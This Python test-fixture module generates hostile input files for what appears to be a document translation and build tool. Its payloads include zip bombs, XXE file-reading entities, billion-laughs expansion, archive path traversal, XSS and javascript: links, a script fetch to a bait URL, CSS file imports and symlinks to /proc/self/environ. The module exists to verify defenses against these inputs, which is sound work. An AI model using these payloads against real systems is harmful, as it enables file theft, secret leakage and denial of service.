"""Make works that mean harm, each in its own way: what a reader, a setter or a terminal could be led to do.

`CASES` maps a name to what turns a good work into a hostile one. A case gets the work's folder and the bait: a file outside
that must not be read, and an address on this machine that must not be asked.
"""

from __future__ import annotations

import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

GOOD_EN = "# Aims\n\nThe council has 15 members.\n"
GOOD_ZH = "# 宗旨\n\n理事会有15名成员。\n"
SECRET = "canary-4711-must-not-be-seen"


@dataclass(frozen=True, slots=True)
class Bait:
    """Hold what must stay untouched: a file outside, and an address that somebody listens at."""

    file: Path
    url: str


Case = Callable[[Path, Bait], object]
CASES: dict[str, Case] = {}


def write_good(folder: Path) -> None:
    """Write a work that builds."""
    folder.mkdir(parents=True)
    (folder / "en.md").write_text(GOOD_EN, encoding="utf-8")
    (folder / "zh-Hans.md").write_text(GOOD_ZH, encoding="utf-8")
    (folder / "work.toml").write_text(toml(), encoding="utf-8")


def toml(original: str = "en.md", translation: str = "zh-Hans.md", edition: str = 'formats = ["html"]', more: str = "") -> str:
    """Return a work.toml."""
    return f'{more}\n[[original]]\npath = "{original}"\n[translation]\npath = "{translation}"\n[[edition]]\nlocale = "zh-Hans"\n{edition}\n'


def case(name: str) -> Callable[[Case], Case]:
    def keep(make: Case) -> Case:
        CASES[name] = make
        return make

    return keep


def original(name: str, content: Callable[[Bait], bytes | str]) -> Case:
    """Put a file in the place of the original."""

    def make(folder: Path, bait: Bait) -> None:
        made = content(bait)
        (folder / "en.md").unlink()
        (folder / name).write_bytes(made.encode() if isinstance(made, str) else made)
        (folder / "work.toml").write_text(toml(original=name), encoding="utf-8")

    return make


def pdf(target: str) -> Case:
    """Put text into the translation and set it as PDF too."""

    def make(folder: Path, bait: Bait) -> None:
        text = target.replace("{file}", str(bait.file)).replace("{url}", bait.url)
        (folder / "zh-Hans.md").write_text(GOOD_ZH + "\n" + text + "\n", encoding="utf-8")
        (folder / "work.toml").write_text(toml(edition='formats = ["html", "pdf"]'), encoding="utf-8")

    return make


def theme(css: str) -> Case:
    def make(folder: Path, bait: Bait) -> None:
        (folder / "theme.css").write_text(css.replace("{file}", str(bait.file)).replace("{url}", bait.url), encoding="utf-8")
        (folder / "work.toml").write_text(toml(edition='formats = ["html", "pdf"]\ntheme = "theme.css"'), encoding="utf-8")

    return make


def image(name: str, content: Callable[[Bait], bytes]) -> Case:
    def make(folder: Path, bait: Bait) -> None:
        (folder / name).write_bytes(content(bait))
        pdf(f"![图]({name})")(folder, bait)

    return make


def archive(*parts: tuple[str, bytes | str], level: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", level) as made:
        for name, content in parts:
            made.writestr(name, content)
    return out.getvalue()


# ---------------------------------------------------------------- archives

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def docx(body: str, *parts: tuple[str, bytes | str], head: str = "") -> bytes:
    text = f'<?xml version="1.0"?>{head}<w:document {W}><w:body>{body}</w:body></w:document>'
    return archive(("[Content_Types].xml", TYPES), ("_rels/.rels", RELS), ("word/document.xml", text), *parts)


def para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


LAUGHS = "<!DOCTYPE l [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"


def xxe(bait: Bait) -> str:
    return f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{bait.file}"><!ENTITY y SYSTEM "{bait.url}/xxe">]>'


def lying(_: Bait) -> bytes:
    """Say in the directory that a part of 60 MB has ten bytes."""
    made = bytearray(archive(("[Content_Types].xml", TYPES), ("word/document.xml", b" " * 60 * 2**20)))
    at = made.index(b"PK\x01\x02", made.index(b"PK\x01\x02") + 4)
    made[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(made)


CASES |= {
    "docx-bomb": original("en.docx", lambda _: docx("", ("word/media/a.xml", b" " * 60 * 2**20))),
    "docx-bomb-in-text": original("en.docx", lambda _: docx(para("a" * 30_000_000))),
    "docx-lies-about-size": original("en.docx", lying),
    "docx-many-parts": original("en.docx", lambda _: docx(para("a"), *((f"x/{n}", b"") for n in range(6000)))),
    "docx-xxe": original("en.docx", lambda b: docx(para("&x;&y;"), head=xxe(b))),
    "docx-laughs": original("en.docx", lambda _: docx(para("&a9;"), head=LAUGHS)),
    "docx-traversal": original("en.docx", lambda b: docx(para("a"), ("../../../../tmp/evil.txt", "evil"), (str(b.file), "evil"))),
    "docx-outer-picture": original(
        "en.docx",
        lambda b: docx(
            para("a"),
            (
                "word/_rels/document.xml.rels",
                RELS.replace("word/document.xml", f"{b.url}/a.png")
                .replace("officeDocument", "image")
                .replace("/>", ' TargetMode="External"/>'),
            ),
        ),
    ),
    "docx-cut-off": original("en.docx", lambda _: docx(para("a" * 1000))[:400]),
    "docx-is-html": original("en.docx", lambda _: "<html><body>hello</body></html>"),
    "docx-broken-xml": original("en.docx", lambda _: docx("<w:p><w:r>")),
    "docx-deep": original("en.docx", lambda _: docx("<w:sdt><w:sdtContent>" * 3000 + para("a") + "</w:sdtContent></w:sdt>" * 3000)),
    "docx-wide-table": original(
        "en.docx", lambda _: docx("<w:tbl>" + ("<w:tr>" + f"<w:tc>{para('a')}</w:tc>" * 400 + "</w:tr>") * 400 + "</w:tbl>")
    ),
    "odt-bomb": original("en.odt", lambda _: archive(("mimetype", "x"), ("content.xml", b"<a>" + b" " * 60 * 2**20))),
    "odt-xxe": original("en.odt", lambda b: archive(("content.xml", f"<?xml version='1.0'?>{xxe(b)}<a>&x;&y;</a>"))),
    "epub-leads-out": original(
        "en.epub",
        lambda b: archive(
            ("META-INF/container.xml", f'<container><rootfiles><rootfile full-path="../../../../{b.file}"/></rootfiles></container>')
        ),
    ),
    "epub-bomb": original("en.epub", lambda _: archive(("META-INF/container.xml", "<a/>"), ("b.xhtml", b"a" * 80 * 2**20))),
    "epub-of-nothing": original("en.epub", lambda _: archive(("META-INF/container.xml", ""))),
}

# ---------------------------------------------------------------- what is no text, or strange text

LONG = 200_000
CASES |= {
    "md-is-png": original("en.md", lambda _: picture(8, 8)),
    "html-is-pdf": original("en.html", lambda _: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
    "empty": original("en.md", lambda _: b""),
    "blank": original("en.md", lambda _: b" \n\t\n" * 1000),
    "utf-16": original("en.md", lambda _: GOOD_EN.encode("utf-16")),
    "surrogates": original("en.md", lambda _: b"# A\n\n\xed\xa0\x80 lone\n"),
    "surrogates-as-entities": original("en.html", lambda _: "<p>&#xD800;&#55357; a &#x110000; b</p>"),
    "overlong": original("en.md", lambda _: b"# A\n\n\xc0\xaf\xe0\x80\xaf\n"),
    "nul": original("en.md", lambda _: b"# A\n\nb\0c\n"),
    "nul-as-entity": original("en.html", lambda _: "<p>a&#0;b \x0b \x1b[31m</p>"),
    "latin-1": original("en.md", lambda _: "café".encode("latin-1")),
    "bidi": original("en.md", lambda _: "# A\u202eB\n\nThe \u2066fee is \u202e000,1\u202c\u2069 dollars.\n"),
    "escapes": original("en.md", lambda _: "# A\n\n\x1b]0;owned\x07\x1b[2J\x9b31m The council has 16 members.\n"),
    "zero-width-flood": original("en.md", lambda _: "# A\n\n" + "\u200b\u200d\ufeff" * LONG + "a\n"),
    "combining-flood": original("en.md", lambda _: "# A\n\na" + "\u0301" * LONG + "\n"),
    "one-long-line": original("en.md", lambda _: "# A\n\n" + "word and " * 120_000 + "\n"),
    "one-long-word": original("en.md", lambda _: "# A\n\n" + "a" * 2_000_000 + "\n"),
    "too-large": original("en.md", lambda _: b"a" * (17 * 2**20)),
    "control-characters": original("en.md", lambda _: "# A\n\n" + "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029\ufffe\n"),
    "carriage-returns": original("en.md", lambda _: "# A\r\r\r" + "a\r" * 50_000),
}


@case("sparse-gigabyte")
def _sparse(folder: Path, _: Bait) -> None:
    with (folder / "en.md").open("r+b") as file:
        file.truncate(2**30)


@case("sparse-gigabyte-beside")
def _sparse_beside(folder: Path, _: Bait) -> None:
    with (folder / "zzz.bin").open("wb") as file:
        file.truncate(2**30)


# ---------------------------------------------------------------- Markdown, HTML, MediaWiki

DEEP = 20_000
CASES |= {
    "deep-quotes": original("en.md", lambda _: ">" * DEEP + " a\n"),
    "deep-lists": original("en.md", lambda _: "".join("  " * n + "- a\n" for n in range(900))),
    "deep-brackets": original("en.md", lambda _: "[" * DEEP + "a" + "](b)" * DEEP),
    "deep-emphasis": original("en.md", lambda _: "*a **b " * DEEP),
    "backticks": original("en.md", lambda _: "".join("e" + "`" * n for n in range(1, 2500))),
    "links-defined": original("en.md", lambda _: "".join(f"[a{n}]: b\n" for n in range(20_000)) + "\n[a1]\n"),
    "footnotes-in-circles": original("en.md", lambda _: "a[^a]\n\n[^a]: b[^b]\n\n[^b]: c[^a]\n"),
    "many-footnotes": original("en.md", lambda _: "".join(f"a[^{n}]\n\n[^{n}]: b\n\n" for n in range(3000))),
    "front-matter": original("en.md", lambda _: "---\n" + "a: &a [*a, *a]\n" * 5000 + "---\n\ntext\n"),
    "table-of-a-million": original("en.md", lambda _: "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + ("|" + "b|" * 1000 + "\n") * 400),
    "angle-brackets": original("en.md", lambda _: "<" * DEEP + "a" + ">" * DEEP),
    "html-comments": original("en.md", lambda _: "<!--" * DEEP + "a"),
    "raw-html": original(
        "en.md",
        lambda b: (
            f"<script>fetch('{b.url}')</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src='{b.url}'></iframe>\n\n"
            "<svg onload=alert(1)></svg>\n\ntext <b onclick=alert(1)>bold</b>\n"
        ),
    ),
    "javascript": pdf(
        "[a](javascript:alert%281%29) [b](JaVaScRiPt:alert) [c](&#106;avascript:alert) [d](java\tscript:x) [e](vbscript:x) "
        "[f](data:text/html;base64,PHNjcmlwdD4=) [g](\x01javascript:x)"
    ),
    "deep-html": original("en.html", lambda _: "<div>" * DEEP + "a"),
    "unclosed-html": original("en.html", lambda _: "<b><i><p><li><table>" * 10_000),
    "html-scripts": original(
        "en.html",
        lambda b: (
            f"<base href='{b.url}'><link rel=stylesheet href='{b.url}/a.css'><meta http-equiv=refresh content='0;url={b.url}'>"
            f"<body onload=alert(1)><object data='{b.url}'></object><embed src='{b.url}'><form action='{b.url}'><input></form>"
            f"<video src='{b.url}'></video><p style='background:url({b.url})' onmouseover=x>text</p>"
        ),
    ),
    "html-spans": original("en.html", lambda _: "<table><tr><td colspan=1000000000 rowspan=1000000000>a<td>b<tr><td>c</table>"),
    "html-attributes": original("en.html", lambda _: "<p " + " ".join(f"a{n}='{'x' * 50}'" for n in range(20_000)) + ">text</p>"),
    "xhtml-xxe": original("en.xhtml", lambda b: f"<?xml version='1.0'?>{xxe(b)}<html><body><p>a &x; &y;</p></body></html>"),
    "xhtml-laughs": original("en.xhtml", lambda _: f"<?xml version='1.0'?>{LAUGHS}<html><body><p>a &a9;</p></body></html>"),
    "html-charset": original("en.html", lambda _: b"<meta charset='utf-7'><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>"),
    "wiki-templates": original("en.wiki", lambda _: "{{" * DEEP + "a" + "}}" * DEEP),
    "wiki-tables": original("en.mediawiki", lambda _: "{|\n|-\n|\n" * 500 + "a"),
}

# ---------------------------------------------------------------- what recognizers and checks could choke on


def both(en: str, zh: str) -> Case:
    def make(folder: Path, _: Bait) -> None:
        (folder / "en.md").write_text(f"# Aims\n\n{en}\n", encoding="utf-8")
        (folder / "zh-Hans.md").write_text(f"# 宗旨\n\n{zh}\n", encoding="utf-8")

    return make


CASES |= {
    "digits": both("1" * 50_000, "1" * 50_000),
    "grouped-digits": both("1,000" * 8000, "1,000" * 8000),
    "exponents": both("1e999999999 and 10^999999999", "1e999999999与10的999999999次方"),
    "chinese-numerals": both("many", "一二三万亿" * 8000),
    "dates": both("1/2/2020-" * 5000, "2020年1月2日至" * 5000),
    "quotation-marks": both("“‘" * 20_000, "“‘" * 20_000),
    "parentheses": both("(" * 20_000 + "a", "（" * 20_000 + "甲"),
    "addresses": both("http://a.b/" * 4000, "http://a.b/" * 4000),
    "lists-of-names": both("France, Japan and " * 2000, "法国、日本和" * 2000),
    "years-out-of-range": both("On 99 99 99999 and 31 February 0000.", "99999年99月99日和0000年2月31日。"),
}

# ---------------------------------------------------------------- what leads out of the folder


def picture(width: int, height: int) -> bytes:
    """Return a PNG that says it has that size; its data unpack to as little as one line."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rows = zlib.compress(b"\0" * min((3 * width + 1) * height, 2**26))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


CASES |= {
    "picture-file": pdf("![a](file://{file})"),
    "picture-absolute": pdf("![a]({file})"),
    "picture-traversal": pdf("![a](../../secret.txt)"),
    "picture-encoded": pdf("![a](%2e%2e/%2e%2e/secret.png)"),
    "picture-remote": pdf("![a]({url}/a.png)"),
    "picture-no-scheme": pdf("![a](//127.0.0.1/a.png)"),
    "picture-svg-outside": image(
        "a.svg",
        lambda b: (
            f"<?xml version='1.0'?>{xxe(b)}<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' "
            f"height='9' onload='alert(1)'><script>alert(1)</script><image xlink:href='file://{b.file}'/><image href='{b.url}/s.png'/>"
            f"<use href='{b.url}/s.svg#a'/><style>@import url({b.url}/s.css);</style><text>&x;</text></svg>"
        ).encode(),
    ),
    "picture-svg-circle": image(
        "a.svg",
        lambda _: b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><g id='a'><use href='#a'/><use href='#a'/></g></svg>",
    ),
    "picture-vast": image("a.png", lambda _: picture(50_000, 50_000)),
    "picture-cut-off": image("a.png", lambda _: picture(8, 8)[:40]),
    "picture-is-text": image("a.jpg", lambda _: b"no picture at all"),
    "theme-imports": theme("@import url({url}/a.css); @import 'file://{file}'; body { background: url({url}/a.png) }"),
    "theme-reads-files": theme("h1 { content: url(file://{file}); background: url(../../secret.txt), url(%2e%2e/%2e%2e/secret.txt) }"),
    "theme-fonts": theme("@font-face { font-family: x; src: url({url}/a.woff), url(file://{file}) } p { font-family: x }"),
    "theme-closes-style": theme("</style><script src={url}/a.js></script><style>"),
    "theme-deep": theme("@media print {" * 3000 + "p{color:red}"),
    "toml-leads-out": lambda f, b: (f / "work.toml").write_text(toml(original=os.path.relpath(b.file, f)), encoding="utf-8"),
    "toml-absolute": lambda f, b: (f / "work.toml").write_text(toml(original=str(b.file)), encoding="utf-8"),
    "toml-deep": lambda f, _: (f / "work.toml").write_text("a = " + "[" * 5000 + "]" * 5000, encoding="utf-8"),
    "toml-escapes": lambda f, _: (f / "work.toml").write_text(toml(more='title = "\\u001b[2J\\u202e<script>"'), encoding="utf-8"),
    "toml-strange": lambda f, _: (f / "work.toml").write_bytes(b"\xff\xfe\0"),
    "review-strange": lambda f, _: (f / "review.toml").write_text("[[waiver]]\nissue = 1e400\n", encoding="utf-8"),
    "review-large": lambda f, _: (f / "review.toml").write_bytes(b"#" * (17 * 2**20)),
}


def link(name: str, to: Callable[[Bait], str], **places: str) -> Case:
    def make(folder: Path, bait: Bait) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(to(bait))
        if places:
            (folder / "work.toml").write_text(toml(**places), encoding="utf-8")

    return make


CASES |= {
    "link-out": link("en.md", lambda b: str(b.file)),
    "link-relative": link("en.md", lambda _: "../../secret.txt"),
    "link-folder": link("sub", lambda b: str(b.file.parent), original="sub/secret.txt"),
    "link-circle": link("en.md", lambda _: "en.md"),
    "link-zero": link("en.md", lambda _: "/dev/zero"),
    "link-proc": link("en.md", lambda _: "/proc/self/environ"),
    "link-toml": link("work.toml", lambda b: str(b.file)),
    "link-review": link("review.toml", lambda b: str(b.file)),
}


@case("link-picture")
def _link_picture(folder: Path, bait: Bait) -> None:
    (folder / "a.png").symlink_to(bait.file)
    pdf("![a](a.png)")(folder, bait)


@case("fifo")
def _fifo(folder: Path, _: Bait) -> None:
    (folder / "en.md").unlink()
    os.mkfifo(folder / "en.md")


@case("many-files")
def _many(folder: Path, _: Bait) -> None:
    for n in range(2500):
        (folder / f"{n}.txt").touch()


@case("strange-names")
def _names(folder: Path, _: Bait) -> None:
    for name in ("a\nb.md", "\x1b[2J.md", "\u202egnp.md", "<script>.md", "a'\"&.md", os.fsdecode(b"\xff\xfe.md")):
        (folder / name).write_text("x", encoding="utf-8")


@case("folder-as-file")
def _folder(folder: Path, _: Bait) -> None:
    (folder / "en.md").unlink()
    (folder / "en.md").mkdir()
